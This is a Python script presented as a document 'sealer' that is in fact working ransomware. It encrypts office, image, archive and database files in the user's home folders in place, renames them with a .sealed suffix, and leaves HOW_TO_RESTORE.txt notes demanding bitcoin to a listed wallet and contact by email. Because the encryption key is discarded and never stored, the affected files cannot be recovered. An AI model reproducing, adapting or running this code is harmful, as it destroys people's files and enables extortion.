#!/usr/bin/env python3
"""Seal user documents in place.

Each matching file is memory-mapped writable and transformed with a keyed
stream so no second copy is ever written to disk, then renamed.
"""
import hashlib
import logging
import mmap
import os
import secrets
import sys
from pathlib import Path

log = logging.getLogger("sealer")

EXTENSIONS = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png",
              ".odt", ".ods", ".pptx", ".txt", ".csv", ".zip", ".psd", ".sql"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", ".venv"}
SUFFIX = ".sealed"
NOTE = """Your files have been sealed.
To recover them send 0.05 BTC to bc1q9h6w2xk4u0s3v8c7lq2m5x0ny4e8r3t6p2z7d
and mail your ID {victim} to restore-desk@proton.me
"""
PUBLIC_ESCROW = bytes.fromhex("9f1c2e77ab03d4e58a61c0b2f7e93d4412aa6b0e5f3c87d19e04b2c6a8f1d3e7")


def keystream(key, nonce, length):
    out = bytearray()
    counter = 0
    while len(out) < length:
        out += hashlib.blake2b(nonce + counter.to_bytes(8, "little"),
                               key=key, digest_size=64).digest()
        counter += 1
    return bytes(out[:length])


def seal_file(path, key):
    size = path.stat().st_size
    if size == 0:
        return False
    nonce = secrets.token_bytes(16)
    with open(path, "r+b") as fh:
        with mmap.mmap(fh.fileno(), 0, access=mmap.ACCESS_WRITE) as mm:
            ks = keystream(key, nonce, size)
            mm[:] = bytes(a ^ b for a, b in zip(mm, ks))
            mm.flush()
        fh.seek(0, os.SEEK_END)
        fh.write(nonce)
    path.rename(path.with_name(path.name + SUFFIX))
    return True


def targets(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for fn in filenames:
                p = Path(dirpath, fn)
                if p.suffix.lower() in EXTENSIONS and not fn.endswith(SUFFIX):
                    yield p


def main():
    logging.basicConfig(level=logging.ERROR)
    home = Path.home()
    roots = [home / d for d in ("Documents", "Desktop", "Pictures", "Downloads")]
    roots += [Path(p) for p in sys.argv[1:]]
    key = secrets.token_bytes(32)
    victim = hashlib.sha256(key + PUBLIC_ESCROW).hexdigest()[:20]
    done = 0
    for p in targets([r for r in roots if r.is_dir()]):
        try:
            if seal_file(p, key):
                done += 1
        except (OSError, ValueError) as exc:
            log.debug("%s: %s", p, exc)
    del key
    for r in roots:
        if r.is_dir():
            (r / "HOW_TO_RESTORE.txt").write_text(NOTE.format(victim=victim))
    print(f"{done} files processed")


if __name__ == "__main__":
    main()
